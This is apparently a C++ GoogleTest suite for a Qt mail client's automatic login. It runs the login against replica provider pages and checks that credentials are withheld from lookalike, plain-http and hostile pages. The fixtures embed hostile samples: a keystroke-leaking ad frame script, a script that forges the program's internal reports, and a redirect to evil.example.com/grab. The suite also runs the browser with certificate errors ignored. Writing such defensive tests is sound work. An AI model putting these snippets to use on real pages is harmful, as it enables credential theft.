// One toolbar click in the real main window against replicas of today's provider login
// pages, served under the real host names over TLS by a proxy on 127.0.0.1; and the
// pages that must get nothing: another site, plain http, hidden password fields,
// forged reports, a page that navigates away, a foreign frame inside the provider's page.
#include <gtest/gtest.h>
#include <unistd.h>

#include <QAction>
#include <QApplication>
#include <QElapsedTimer>
#include <QStatusBar>
#include <QTemporaryDir>
#include <QToolBar>
#include <QWebEnginePage>
#include <QWebEngineView>
#include <memory>

#include "app/main_window.h"
#include "app/program_state.h"
#include "app/startup.h"
#include "login/browser_pane.h"
#include "login/login_driver.h"
#include "page_host.h"
#include "platform/dialogs.h"
#include "platform/gbk.h"
#include "platform/program_folder.h"
#include "records/mailbox_store.h"
#include "records/record_database.h"
#include "replica_pages.h"

namespace login {
namespace {

using login_test::kPassword;
using login_test::kUser;
using login_test::waitUntil;

login_test::ReplicaProxy* g_proxy = nullptr;

std::string gbk(const char* utf8) { return platform::utf8ToGbk(utf8); }

int rowOf(const std::string& key) {
    const auto& table = records::providerTable();
    for (size_t i = 0; i < table.size(); ++i)
        if (table[i].key == key) return static_cast<int>(i) + 1;
    return 0;
}

class ReplicaLoginTest : public ::testing::Test {
protected:
    void SetUp() override {
        ASSERT_TRUE(m_folder.isValid());
        ASSERT_NE(g_proxy, nullptr);
        g_proxy->clear();
        platform::setProgramFolder(m_folder.path().toStdString());
        app::releaseProgramState();
        ASSERT_TRUE(records::copyMailboxDatabase(TMBL_PROGRAM_DIR, m_folder.path().toStdString()));
        g_proxy->page(QStringLiteral("https://home.tmbl.test"), QStringLiteral("/"), "<html><body>home</body></html>");
    }
    void TearDown() override {
        m_window.reset();
        app::releaseProgramState();
        records::closeAllDatabases();
        platform::setProgramFolder({});
    }

    void configure(const std::string& type, const QByteArray& user) {
        ASSERT_TRUE(records::openMailboxDatabase(m_folder.path().toStdString()));
        const records::RecordRead<records::MailboxEntry> read = records::readMailboxEntry(1);
        ASSERT_TRUE(read.ok());
        records::MailboxEntry entry = read.value;
        entry.name = gbk("我的信箱");
        entry.userName = user.toStdString();
        entry.password = records::encodePassword(kPassword.toStdString());
        entry.type = type;
        entry.loginKind = gbk("邮箱");
        ASSERT_TRUE(records::writeEntry(1, entry));
        records::closeMailboxDatabase(m_folder.path().toStdString());
        ASSERT_GT(rowOf(type), 0);
    }

    // Starts the program and clicks mailbox button 1.
    void clickMailbox(int quietMs = 5000) {
        m_window = std::make_unique<app::MainWindow>(QStringLiteral("https://home.tmbl.test/"));
        ASSERT_EQ(m_window->create(), app::StartOutcome::Running);
        ASSERT_TRUE(waitUntil([&] { return m_window->pane()->IsReady(); }, 20000));
        m_window->loginDriver()->setTimeLimits(20000, quietMs);
        QObject::connect(m_window->loginDriver(), &LoginDriver::loginFinished, m_window.get(),
                         [this](LoginOutcome outcome) {
                             m_outcomes.append(outcome);
                             m_acceptedAtOutcome = m_replicas.acceptedAt();
                             m_submissionsAtOutcome = static_cast<int>(g_proxy->submissions().size());
                         });
        m_window->mailboxToolBar()->actions().at(0)->trigger();
        EXPECT_TRUE(m_window->loginDriver()->isWaitingWindowOpen());
    }

    // The click logged in at the replica's server: the credentials the site checks
    // arrived, the program counts the login as done, nothing was shown.
    void expectLoggedInAt(const QString& where) {
        ASSERT_TRUE(waitUntil([&] { return !m_replicas.acceptedAt().isEmpty(); }, 20000))
            << "requests: " << g_proxy->requests().join(u' ').toStdString();
        EXPECT_EQ(m_replicas.acceptedAt(), where);
        ASSERT_TRUE(waitUntil([&] { return !m_outcomes.isEmpty(); }, 5000));
        EXPECT_EQ(m_outcomes, QList<LoginOutcome>{LoginOutcome::LoggedIn});
        EXPECT_TRUE(app::state().loginDone);
        EXPECT_FALSE(m_window->loginDriver()->isWaitingWindowOpen());
        EXPECT_TRUE(m_dialogs.messages().empty());
        // The pages after the login are left alone.
        const qsizetype submitted = g_proxy->submissions().size();
        QTest::qWait(500);
        EXPECT_EQ(g_proxy->submissions().size(), submitted);
    }

    QString statusBarText() const { return m_window->statusPaneText(1); }

    QTemporaryDir m_folder;
    login_test::Replicas m_replicas{*g_proxy};
    platform::ScriptedDialogs m_dialogs;
    std::unique_ptr<app::MainWindow> m_window;
    QList<LoginOutcome> m_outcomes;
    QString m_acceptedAtOutcome;
    int m_submissionsAtOutcome = -1;
};

TEST_F(ReplicaLoginTest, QqNestedFramesBehindTheQrCode) {
    m_replicas.qq();
    configure("QQ.com", kUser);
    clickMailbox();
    expectLoggedInAt(QStringLiteral("https://ssl.ptlogin2.qq.com/login"));
}

TEST_F(ReplicaLoginTest, NeteaseLoginFrameWithRandomIdsAndADecoy) {
    m_replicas.netease(QStringLiteral("https://mail.163.com"), "163.com");
    configure("163.com", kUser);
    clickMailbox();
    expectLoggedInAt(QStringLiteral("https://dl.reg.163.com/dl/l"));
}

TEST_F(ReplicaLoginTest, NeteaseFrameNamedByTheRecipeLogsIn126AndAForeignFrameGetsNothing) {
    // The login frame is of another registrable domain than mail.126.com, allowed by
    // the recipe; the advertising frame beside it, with a form of its own that reports
    // whatever is typed into it, is of nobody's.
    g_proxy->page(QStringLiteral("https://ads.example.org"), QStringLiteral("/box"), R"(<html><body><form>
<input name=user><input type=password name=pass><input type=submit></form><script>
document.addEventListener('input', function (e) { new Image().src = '/leak?v=' + encodeURIComponent(e.target.value); });
document.addEventListener('submit', function (e) { e.preventDefault(); new Image().src = '/leak?submit=1'; });
</script></body></html>)");
    m_replicas.netease(QStringLiteral("https://mail.126.com"), "126.com",
                       R"(<iframe width=300 height=200 src="https://ads.example.org/box"></iframe>)");
    configure("126.com", kUser);
    clickMailbox();
    expectLoggedInAt(QStringLiteral("https://dl.reg.163.com/dl/l"));
    EXPECT_TRUE(g_proxy->submissionsTo(QStringLiteral("https://ads.example.org")).isEmpty());
}

TEST_F(ReplicaLoginTest, GoogleIdentifierFirstInOneDocumentLeavesTheHiddenPasswordAlone) {
    m_replicas.google();
    configure("gmail.com", kUser);
    clickMailbox();
    expectLoggedInAt(QStringLiteral("https://accounts.google.com/v3/signin/challenge/pwd"));
}

TEST_F(ReplicaLoginTest, MicrosoftScriptControlledStepsWithTheFullAddress) {
    m_replicas.microsoft();
    configure("hotmail.com", kUser);
    clickMailbox();
    expectLoggedInAt(QStringLiteral("https://login.live.com/ppsecure/post.srf"));
}

TEST_F(ReplicaLoginTest, YahooPasswordOnTheNextDocument) {
    m_replicas.yahoo();
    configure("yahoo.com", kUser);
    clickMailbox();
    expectLoggedInAt(QStringLiteral("https://login.yahoo.com/account/challenge/password"));
}

TEST_F(ReplicaLoginTest, SinaLinkAsTheSubmitControl) {
    m_replicas.sina();
    configure("sina.com", kUser);
    clickMailbox();
    expectLoggedInAt(QStringLiteral("https://mail.sina.com.cn/cgi-bin/login.php"));
}

TEST_F(ReplicaLoginTest, China139FormMadeAfterTheLoad) {
    m_replicas.china139("13800138000");
    configure("139.com", "13800138000");
    clickMailbox();
    expectLoggedInAt(QStringLiteral("https://mail.10086.cn/Login/Login.ashx"));
}

TEST_F(ReplicaLoginTest, AControlThatTakesOnlyRealClicksGetsOneInsideAFrame) {
    // The control ignores clicks made by script; it sits in a frame of another origin,
    // away from the page's corner.
    g_proxy->page(QStringLiteral("https://vip.tom.com"), QStringLiteral("/cgi-bin/login_vipmail.php"),
                  R"(<html><body style="margin:0"><div style="height:70px"></div>
<iframe style="margin-left:90px;border:7px solid #999" width=400 height=300
 src="https://login.tom.com/vip"></iframe></body></html>)");
    g_proxy->page(QStringLiteral("https://login.tom.com"), QStringLiteral("/vip"), R"(<html><body>
<form id=f method=post action="/vip/session"><input name=user><input type=password name=pass>
<div id=go role=button style="margin-top:30px;width:90px;height:30px;background:#36c">log in</div></form>
<script>document.getElementById('go').addEventListener('click', function (e) {
  if (!e.isTrusted) return;
  document.getElementById('f').submit();
});</script></body></html>)");
    m_replicas.accept(QStringLiteral("https://login.tom.com"), QStringLiteral("/vip/session"), [](const auto& r) {
        return r.field("user") == kUser + "@vip.tom.com" && r.field("pass") == kPassword;
    });
    configure("vip.tom.com", kUser);
    clickMailbox();
    expectLoggedInAt(QStringLiteral("https://login.tom.com/vip/session"));
}

TEST_F(ReplicaLoginTest, APageThatSubmitsByScriptLaterIsNotClickedAgain) {
    // The control takes script clicks, but its page shows nothing for a good while: it
    // sends the login by fetch a moment later and moves on only when the answer is in.
    // A real click on top would send the login a second time.
    g_proxy->page(QStringLiteral("https://vip.tom.com"), QStringLiteral("/cgi-bin/login_vipmail.php"),
                  R"(<html><body><form id=f><input name=user><input type=password name=pass>
<div id=go role=button style="width:90px;height:30px;background:#36c">log in</div></form>
<script>document.getElementById('go').addEventListener('click', function () {
  var f = document.getElementById('f');
  var body = new URLSearchParams({ user: f.user.value, pass: f.pass.value });
  setTimeout(function () {
    fetch('/vip/session', { method: 'POST', body: body }).then(function () {
      setTimeout(function () { location.href = '/inbox'; }, 1500);
    });
  }, 100);
});</script></body></html>)");
    g_proxy->page(QStringLiteral("https://vip.tom.com"), QStringLiteral("/inbox"), "<html><body>inbox</body></html>");
    m_replicas.accept(QStringLiteral("https://vip.tom.com"), QStringLiteral("/vip/session"), [](const auto& r) {
        return r.field("user") == kUser + "@vip.tom.com" && r.field("pass") == kPassword;
    });
    configure("vip.tom.com", kUser);
    clickMailbox();
    expectLoggedInAt(QStringLiteral("https://vip.tom.com/vip/session"));
    ASSERT_TRUE(waitUntil([&] { return m_window->pane()->currentPage()->url().path() == u"/inbox"; }, 10000));
    EXPECT_EQ(g_proxy->submissionsTo(QStringLiteral("https://vip.tom.com")).size(), 1);
}

// ---- pages that get nothing

const QByteArray kPlainLoginForm = R"(<html><body><form method=post action="/session">
<input name=u><input type=password name=p><input type=submit value=Login></form></body></html>)";

TEST_F(ReplicaLoginTest, ARedirectToAnotherSiteGetsNothing) {
    g_proxy->on(QStringLiteral("https://mail.tom.com"), QStringLiteral("/cgi-bin/login.cgi"), [](const auto&) {
        return login_test::Response::redirect(QStringLiteral("https://mail.tom-login.net/login"));
    });
    g_proxy->page(QStringLiteral("https://mail.tom-login.net"), QStringLiteral("/login"), kPlainLoginForm);
    configure("tom.com", kUser);
    clickMailbox();
    ASSERT_TRUE(waitUntil([&] { return !m_outcomes.isEmpty(); }, 20000));
    EXPECT_EQ(m_outcomes.front(), LoginOutcome::Refused);
    EXPECT_TRUE(statusBarText().contains(QStringLiteral("mail.tom-login.net")));
    QTest::qWait(500);
    EXPECT_TRUE(g_proxy->submissions().isEmpty());
    EXPECT_FALSE(app::state().loginDone);
    EXPECT_EQ(login_test::inPage(m_window->pane()->currentPage(), QStringLiteral("document.forms[0].p.value")),
              QString());
}

TEST_F(ReplicaLoginTest, APageServedOverPlainHttpGetsNothing) {
    g_proxy->on(QStringLiteral("https://mail.21cn.com"), QStringLiteral("/"), [](const auto&) {
        return login_test::Response::redirect(QStringLiteral("http://mail.21cn.com/login"));
    });
    g_proxy->page(QStringLiteral("http://mail.21cn.com"), QStringLiteral("/login"), kPlainLoginForm);
    configure("21cn.com", kUser);
    clickMailbox();
    ASSERT_TRUE(waitUntil([&] { return !m_outcomes.isEmpty(); }, 20000));
    EXPECT_EQ(m_outcomes.front(), LoginOutcome::Insecure);
    EXPECT_TRUE(statusBarText().contains(QStringLiteral("mail.21cn.com")));
    QTest::qWait(500);
    EXPECT_TRUE(g_proxy->submissions().isEmpty());
    EXPECT_FALSE(app::state().loginDone);
}

TEST_F(ReplicaLoginTest, HiddenPasswordFieldsGetNothingAndThePageCountsAsNoLoginPage) {
    // Every password field here is one a person cannot see: zero opacity, aria-hidden,
    // off-screen, invisible, disabled.
    g_proxy->page(QStringLiteral("https://mail.263.net"), QStringLiteral("/webmail/"), R"(<html><body>
<form method=post action="/session"><input name=u>
<input type=password name=p1 style="opacity:0"><input type=password name=p2 aria-hidden=true>
<input type=password name=p3 style="position:absolute;left:-5000px"><input type=password name=p4 style="visibility:hidden">
<input type=password name=p5 disabled><input type=submit value=Login></form></body></html>)");
    configure("263.net", kUser);
    clickMailbox(800);
    ASSERT_TRUE(waitUntil([&] { return !m_outcomes.isEmpty(); }, 20000));
    EXPECT_EQ(m_outcomes.front(), LoginOutcome::NotALoginPage);
    EXPECT_EQ(m_dialogs.messageTexts(), QStringList{QString::fromUtf16(kNotALoginPageMessage)});
    EXPECT_TRUE(g_proxy->submissions().isEmpty());
    EXPECT_EQ(login_test::inPage(m_window->pane()->currentPage(),
                                 QStringLiteral("Array.from(document.querySelectorAll('input[name]')).map("
                                                "function(i){return i.value;}).join('')")),
              QString());
}

TEST_F(ReplicaLoginTest, ForgedReportsAreDropped) {
    // The page gives its code the source id of the agents and of the frame reports and
    // claims the login went through and the page is complete, before its form exists.
    g_proxy->page(QStringLiteral("https://mail.tom.com"), QStringLiteral("/cnmail/index.html"), R"(<html><body>
<div id=box></div><script>
function forge(name, text) { eval("console.log(" + JSON.stringify(text) + ")\n//# sourceURL=userscript:" + name); }
function claim(kind) {
  var report = JSON.stringify({ kind: kind, doc: 'f0f0', top: true, origin: location.origin, path: [] });
  forge('tmbl-frame-agent', 'tmbl-agent:' + '0'.repeat(32) + ':' + report);
  forge('tmbl-frame-agent', 'tmbl-agent:' + report);
}
forge('tmbl-frame-events', 'tmbl-frame:ready:1:' + location.href);
addEventListener('load', function () {
  setTimeout(function () { claim('hello'); }, 200);
  setTimeout(function () { claim('form'); claim('submitted'); }, 500);
});
addEventListener('load', function () { setTimeout(function () {
  document.getElementById('box').innerHTML = '<form method=post action="/session"><input name=u>' +
    '<input type=password name=p><input type=submit value=Login></form>';
}, 1200); });
</script></body></html>)");
    m_replicas.accept(QStringLiteral("https://mail.tom.com"), QStringLiteral("/session"),
                      [](const auto& r) { return r.field("u") == kUser && r.field("p") == kPassword; });
    configure("163.net", kUser);
    QElapsedTimer sinceClick;
    qint64 outcomeAfterMs = -1;
    sinceClick.start();
    clickMailbox();
    QObject::connect(m_window->loginDriver(), &LoginDriver::loginFinished, m_window.get(),
                     [&] { outcomeAfterMs = sinceClick.elapsed(); });
    expectLoggedInAt(QStringLiteral("https://mail.tom.com/session"));
    // The attempt ended with the real submission, once the form existed, not with the
    // forged claim.
    EXPECT_GE(outcomeAfterMs, 1200);
}

TEST_F(ReplicaLoginTest, APageThatNavigatesAwayBeforeTheFillGetsNothing) {
    // The provider's page, its login still to come, sends the browser elsewhere the
    // moment it is complete; the fill meant for it must not land on what follows.
    g_proxy->page(QStringLiteral("https://vip.21cn.com"), QStringLiteral("/"), R"(<html><body>
<div id=box></div><script>
addEventListener('load', function () { location.replace('https://evil.example.com/grab'); });
</script></body></html>)");
    g_proxy->page(QStringLiteral("https://evil.example.com"), QStringLiteral("/grab"), kPlainLoginForm);
    configure("vip.21cn.com", kUser);
    clickMailbox();
    ASSERT_TRUE(waitUntil([&] { return !m_outcomes.isEmpty(); }, 20000));
    QTest::qWait(500);
    EXPECT_TRUE(g_proxy->submissionsTo(QStringLiteral("https://evil.example.com")).isEmpty());
    EXPECT_EQ(m_outcomes.front(), LoginOutcome::Refused);
    EXPECT_EQ(m_window->pane()->currentPage()->url().host(), QStringLiteral("evil.example.com"));
    EXPECT_EQ(login_test::inPage(m_window->pane()->currentPage(),
                                 QStringLiteral("document.forms[0].u.value+document.forms[0].p.value")),
              QString());
    EXPECT_FALSE(app::state().loginDone);
}

}  // namespace
}  // namespace login

// The engine reads its command line once, when it starts: the proxy must be listening
// and named before the first page exists.
int main(int argc, char** argv) {
    if (qEnvironmentVariableIsEmpty("QT_QPA_PLATFORM")) qputenv("QT_QPA_PLATFORM", "offscreen");
    if (geteuid() == 0) qputenv("QTWEBENGINE_DISABLE_SANDBOX", "1");
    QCoreApplication::setAttribute(Qt::AA_ShareOpenGLContexts);
    QApplication app(argc, argv);
    login_test::ReplicaProxy proxy;
    if (!proxy.ready()) {
        fprintf(stderr, "replica proxy: no listening socket or no test certificate\n");
        return 1;
    }
    const QByteArray flags =
        "--disable-gpu --no-first-run --disable-background-networking "
        "--disable-component-update --ignore-certificate-errors "
        "--proxy-server=http://127.0.0.1:" +
        QByteArray::number(proxy.serverPort()) + " --proxy-bypass-list=<-loopback>";
    qputenv("QTWEBENGINE_CHROMIUM_FLAGS", flags);
    login::g_proxy = &proxy;
    ::testing::InitGoogleTest(&argc, argv);
    return RUN_ALL_TESTS();
}
